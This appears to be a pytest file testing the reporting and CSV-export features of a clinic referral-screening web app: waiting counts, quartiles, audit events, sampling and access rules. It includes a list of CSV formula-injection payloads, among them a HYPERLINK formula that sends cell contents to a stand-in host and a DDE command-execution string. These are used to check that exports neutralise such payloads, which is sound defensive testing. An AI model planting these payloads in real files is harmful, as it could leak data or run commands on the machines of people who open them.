"""What the figures count, what they keep to themselves, and that a file of them runs nothing."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client
from django.urls import reverse

from accounts.models import Role, Site
from audit.events import Event
from audit.models import AuditEvent
from screening.cases.models import Case
from screening.cases.workflow import State
from screening.review.figures import presenters, sampling, selectors
from screening.review.figures.inert import as_csv, inert
from screening.review.figures.selectors import Month, Overturned, Waiting
from tests.factories.intake import NOON, open_clinic, submitted_case
from tests.factories.people import sign_in
from tests.factories.review import LATER, Clinician
from tests.factories.room import decided_case

HOUR, DAY = dt.timedelta(hours=1), dt.timedelta(days=1)


@pytest.fixture
def desk(client: Client, lead: Clinician) -> Client:
    return sign_in(client, lead.membership)


def counted(site: Site) -> dict[tuple[int, int], int]:
    return {(row.rank, row.days): row.n for row in selectors.waiting(site=site, at=NOON) if row.n}


def test_waiting_is_counted_by_urgency_and_age_in_this_clinic_alone(site: Site) -> None:
    submitted_case(site, at=NOON - HOUR)
    submitted_case(site, at=NOON - 2 * DAY)
    submitted_case(site, at=NOON - 2 * DAY - HOUR)
    submitted_case(site, at=NOON - 20 * DAY, rf_saddle="new_or_worse")
    submitted_case(open_clinic(), at=NOON - HOUR)
    assert counted(site) == {(5, 0): 1, (5, 1): 2, (1, 14): 1}


@pytest.mark.parametrize(("waited", "days"), [(DAY - HOUR, 0), (DAY, 1), (3 * DAY, 3), (14 * DAY, 14)])
def test_the_first_day_of_an_age_belongs_to_it(site: Site, waited: dt.timedelta, days: int) -> None:
    submitted_case(site, at=NOON - waited)
    assert counted(site) == {(5, days): 1}


def test_a_closed_case_waits_for_nobody(site: Site) -> None:
    decided_case(site)
    assert counted(site) == {}


def test_times_are_told_by_month_with_their_quartiles(site: Site, clinician: Clinician) -> None:
    for hours in (1, 2, 3, 4, 9):
        case = submitted_case(site, at=NOON - DAY)
        clinician.opens(case, at=NOON - DAY + hours * HOUR)
        clinician.opens(case, at=NOON)
    submitted_case(site, at=NOON - DAY)
    submitted_case(site, at=NOON - 40 * DAY)
    may, june = selectors.time_to_first_look(site=site, at=NOON)
    assert (may.sent, may.n, may.median) == (1, 0, None)
    assert (june.month, june.sent, june.n) == (dt.date(2026, 6, 1), 6, 5)
    assert (june.lower, june.median, june.upper) == (2 * HOUR, 3 * HOUR, 4 * HOUR)


def test_a_look_before_the_form_was_sent_is_not_the_first_look(site: Site, clinician: Clinician) -> None:
    case = submitted_case(site, at=NOON)
    clinician.opens(case, at=NOON - DAY)
    (june,) = selectors.time_to_first_look(site=site, at=LATER)
    assert june.n == 0


def test_time_to_the_decision_counts_the_first_of_two(
    case: Case, clinician: Clinician, lead: Clinician
) -> None:
    clinician.takes(case, at=NOON + HOUR)
    clinician.decides(case, at=NOON + 2 * HOUR)
    lead.opens(case, at=NOON + 5 * HOUR)
    lead.looks_second(case, at=NOON + 5 * HOUR)
    (june,) = selectors.time_to_decision(site=case.site, at=LATER)
    assert (june.n, june.median) == (1, 2 * HOUR)


def test_a_decision_counts_under_every_finding_behind_the_suggestion(
    site: Site, clinician: Clinician
) -> None:
    out = submitted_case(site, dx_confirmed="no", substance="current")
    plain = submitted_case(site)
    for case, outcome in ((out, State.SIGNPOSTED), (plain, State.OFFERED_ASSESSMENT)):
        clinician.takes(case)
        clinician.decides(case, outcome)
    found = {row.code: (row.decided, row.overturned) for row in selectors.overturned(site=site, at=LATER)}
    against = int(out.decisions.get().overturns)
    assert found[selectors.NOTHING] == (1, 0)
    assert found["EXC_NO_DIAGNOSIS"] == (1, against)
    assert found["EXC_SUBSTANCE"] == (1, against)
    assert against == 1


def test_a_share_is_said_of_ten_decisions_and_of_nine_it_is_not() -> None:
    table = presenters.overturned_table([Overturned("A", 10, 3), Overturned("B", 9, 3)], {"A": "Why"})
    assert [cell.text for cell in table.rows[0]] == ["A", "Why", "10", "3", "30%"]
    assert [cell.text for cell in table.rows[1]] == ["B", "", "9", "3", "Too few"]
    assert "%" not in str(table.rows[1])


def test_quartiles_are_said_of_ten_cases_and_of_nine_they_are_not() -> None:
    month = dt.date(2026, 6, 1)
    nine, ten = (Month(month, 20, n, HOUR, 2 * HOUR, 3 * DAY + HOUR) for n in (9, 10))
    table = presenters.months_table("x", "X", "About", "Opened", [nine, ten])
    assert [cell.text for cell in table.rows[0]] == ["Jun 2026", "20", "9", "2 hours", "Too few", "Too few"]
    assert [cell.plain for cell in table.rows[0]][4:] == ["", ""], "a program calculates with nothing"
    assert [cell.text for cell in table.rows[1]][4:] == ["1 hour", "3 days 1 hour"]


def test_a_month_in_which_nothing_was_done_says_so() -> None:
    month = Month(dt.date(2026, 6, 1), 4, 0, None, None, None)
    (row,) = presenters.months_table("x", "X", "About", "Opened", [month]).rows
    assert [cell.text for cell in row] == ["Jun 2026", "4", "0", "None yet", "None yet", "None yet"]


def test_a_chart_says_in_words_what_it_draws_and_one_bar_is_no_chart() -> None:
    some = [Waiting(5, days, 0) for days in selectors.AGES[1:]]
    assert presenters.waiting_table([Waiting(5, 0, 0), *some]).chart is None
    chart = presenters.waiting_table([Waiting(5, 0, 4), *some]).chart
    assert chart is not None
    assert "Under a day: 4;" in chart.description
    assert [bar.length for bar in chart.bars] == [chart.width, 0, 0, 0, 0]


PAYLOADS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    '=HYPERLINK("http://example.net?"&A1,"See")',
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_cell_of_a_file_is_a_formula(text: str) -> None:
    assert inert(text) == f"'{text}"
    ((head, number), (cell, _)) = csv.reader(io.StringIO(as_csv([text, "n"], [[text, 1]]), newline=""))
    assert head == cell == f"'{text}"
    assert number == "n"


@pytest.mark.parametrize("text", ["", "3 days", "EXC_AGE", "a=b", "'quoted", "1-2"])
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


def test_a_negative_number_of_ours_stays_a_number() -> None:
    assert as_csv(["n"], [[-3]]) == '"n"\r\n"-3"\r\n'


@pytest.mark.parametrize("name", ["waiting", "first-look", "decision", "overturned"])
def test_every_table_is_also_a_file_with_the_same_rows(desk: Client, case: Case, name: str) -> None:
    response = desk.get(reverse("figures-csv", args=[name]))
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{name}.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert len({len(row) for row in rows}) == 1
    event = AuditEvent.objects.order_by("-id")[0]
    assert (event.event, event.detail) == (Event.FIGURES_EXPORTED, {"table": name})


def test_a_file_of_nothing_is_not_found(desk: Client) -> None:
    assert desk.get(reverse("figures-csv", args=["names"])).status_code == 404


def test_figures_name_no_case_and_leave_one_row(desk: Client, case: Case) -> None:
    before = AuditEvent.objects.count()
    text = desk.get(reverse("figures")).content.decode()
    assert case.reference not in text
    assert case.patient.family_name not in text
    assert AuditEvent.objects.count() == before + 1
    assert AuditEvent.objects.order_by("-id")[0].event == Event.FIGURES_VIEWED


def test_about_one_in_twenty_is_drawn_and_always_the_same() -> None:
    references = [f"{number:04}-ABCD" for number in range(20_000)]
    drawn = [reference for reference in references if sampling.is_sampled(reference)]
    assert 900 < len(drawn) < 1_100
    assert drawn == [reference for reference in references if sampling.is_sampled(reference)]


def test_without_the_clinics_key_nobody_can_tell_who_is_drawn(settings: object) -> None:
    references = [f"{number:04}-ABCD" for number in range(2_000)]
    before = {reference for reference in references if sampling.is_sampled(reference)}
    settings.LOOKUP_KEY = "another key of another clinic, long enough"  # type: ignore[attr-defined]
    after = {reference for reference in references if sampling.is_sampled(reference)}
    assert len(before & after) < len(before) / 4


def closed_at(case: Case) -> dt.datetime:
    assert case.closed_at is not None
    return case.closed_at


def test_ordinary_decisions_are_drawn_and_a_look_of_somebody_else_counts(
    site: Site, lead: Clinician, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(selectors, "is_sampled", lambda reference: True)
    drawn = decided_case(site)
    for other in (
        decided_case(site, State.OFFERED_ASSESSMENT),
        decided_case(site, gp_share="no"),
        decided_case(open_clinic()),
    ):
        assert other.closed_at is not None
    at = closed_at(drawn) + DAY
    (row,) = selectors.second_looks(site=site, at=at)
    assert (row.reference, row.seen_at, len(row.deciders)) == (drawn.reference, None, 2)
    lead.opens(drawn, at=at)
    (row,) = selectors.second_looks(site=site, at=at)
    assert (row.seen_by, row.seen_at) == (lead.membership.user.name, at)
    assert selectors.second_looks(site=site, at=at + selectors.SAMPLED_DAYS * DAY) == []


def test_a_look_of_who_decided_is_no_second_look(
    case: Case, clinician: Clinician, lead: Clinician, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(selectors, "is_sampled", lambda reference: True)
    clinician.takes(case)
    clinician.decides(case, State.DECLINED)
    lead.opens(case)
    lead.looks_second(case)
    clinician.opens(case, at=LATER + DAY)
    (row,) = selectors.second_looks(site=case.site, at=LATER + 2 * DAY)
    assert row.seen_at is None


def test_what_is_not_drawn_is_not_listed(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(selectors, "is_sampled", lambda reference: False)
    case = decided_case(site)
    assert selectors.second_looks(site=site, at=closed_at(case)) == []


def test_screened_out_cases_are_listed_with_what_was_found_and_decided(desk: Client, site: Site) -> None:
    waiting = submitted_case(site, at=NOON, dx_confirmed="no")
    closed = decided_case(site, dx_confirmed="no", at=NOON - DAY)
    submitted_case(site)
    submitted_case(open_clinic(), dx_confirmed="no")
    rows = selectors.screened_out(site=site).rows
    assert [(row.reference, row.overturned) for row in rows] == [
        (waiting.reference, None),
        (closed.reference, closed.decisions.first().overturns),
    ]
    assert rows[0].codes == ["EXC_NO_DIAGNOSIS"]
    text = desk.get(reverse("screened-out")).content.decode()
    assert "None yet" in text
    assert "EXC_NO_DIAGNOSIS" not in text, "a code is told in words"
    event = AuditEvent.objects.order_by("-id")[0]
    assert (event.event, event.references) == (
        Event.FIGURES_VIEWED,
        [waiting.reference, closed.reference],
    )


def test_a_long_list_goes_on_where_it_stopped(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(selectors, "PAGE_SIZE", 2)
    made = [submitted_case(site, at=NOON - n * HOUR, dx_confirmed="no").reference for n in range(3)]
    first = selectors.screened_out(site=site)
    last = selectors.screened_out(site=site, after=first.next)
    assert [row.reference for page in (first, last) for row in page.rows] == made
    assert last.next is None
    assert selectors.screened_out(site=site, after="nonsense~1").rows == first.rows


@pytest.mark.parametrize("name", ["second-looks", "screened-out"])
def test_the_lists_are_for_lead_clinicians(client: Client, site: Site, name: str) -> None:
    browser = sign_in(client, Clinician.at(site, Role.ADMINISTRATOR).membership)
    assert browser.get(reverse("figures")).status_code == 200
    assert browser.get(reverse(name)).status_code == 403
